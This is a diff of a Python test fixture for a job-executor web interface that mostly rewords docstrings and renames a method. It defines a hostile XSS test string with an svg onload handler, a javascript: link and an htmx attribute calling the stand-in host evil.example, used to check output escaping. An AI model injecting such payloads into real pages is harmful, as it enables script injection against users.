@@ -26,7 +26,7 @@ from executor.database.tables import CriticalJob, Job, Node, WebSession, utc_now
 from executor.drift.facts import DriftKind, Finding, Repair
 
 ADOPTED_SERVICE = "77777777-0000-4000-8000-000000000001"
-#: More than one escape from an attribute, an element and a script; and attributes that htmx would follow.
+#: Several ways to leave an attribute, an element or a script, and an attribute that htmx would send a request for.
 WORST = (
     HOSTILE + """'`<svg onload=window.hacked=1><a href="javascript:window.hacked=1" hx-get="//evil.example/h">x</a>"""
 )
@@ -34,7 +34,7 @@ WORST = (
 
 @dataclass(frozen=True)
 class PreparedSite:
-    """The site, with a login, and on the same database: with TLS, and with pages for local users."""
+    """Three servers of the pages on one database: with a login, with TLS, and for local users without a login."""
 
     site: PagesSite
     secured: PagesSite
@@ -43,7 +43,7 @@ class PreparedSite:
     proxy: Proxy
 
     def described(self) -> dict[str, Any]:
-        """Return what the tests need to know."""
+        """Return the addresses of the pages, the token, and the ids of the jobs."""
         jobs = {name: getattr(self.filled, name) for name in ("completed", "failed", "running", "pending")}
         return {
             "url": f"http://127.0.0.1:{self.proxy.port}",
@@ -56,7 +56,7 @@ class PreparedSite:
         }
 
     def verbs(self) -> dict[str, Callable[..., Any]]:
-        """Return what the tests may ask for."""
+        """Return the functions that the tests in JavaScript can call, by path."""
         return {
             "prepared/proxy": self.proxy.misbehave,
             "prepared/print": self.print_lines,
@@ -64,7 +64,7 @@ class PreparedSite:
             "prepared/end": lambda: end_run(self.site.engine, self.filled.running),
             "prepared/job": self.job,
             "prepared/audit": self.audited,
-            "prepared/wait": self.let_wait,
+            "prepared/wait": self.postpone,
             "prepared/end-sessions": self.end_sessions,
         }
 
@@ -84,8 +84,8 @@ class PreparedSite:
         with reading(self.site.engine) as session:
             return [[entry.who, entry.verb, entry.reason or ""] for entry in audit.list_entries(session)]
 
-    def let_wait(self, number: int) -> None:
-        """Let the next attempt of a job wait for an hour."""
+    def postpone(self, number: int) -> None:
+        """Make a job wait for an hour before its next attempt."""
         with transaction(self.site.engine) as session:
             later = utc_now() + timedelta(hours=1)
             session.execute(update(Job).where(Job.id == number).values(available_at=later))
@@ -114,7 +114,7 @@ class _HostileServer(BaseHTTPRequestHandler):
 
 @contextmanager
 def hostile_fulcrum() -> Iterator[None]:
-    """Let the checks of the doctor, which read the settings of this process, ask a hostile FulcrumCore."""
+    """Run a hostile FulcrumCore. The environment of this process names its address, which the doctor's checks read."""
     server = ThreadingHTTPServer(("127.0.0.1", 0), _HostileServer)
     threading.Thread(target=server.serve_forever, daemon=True).start()
     settings = {
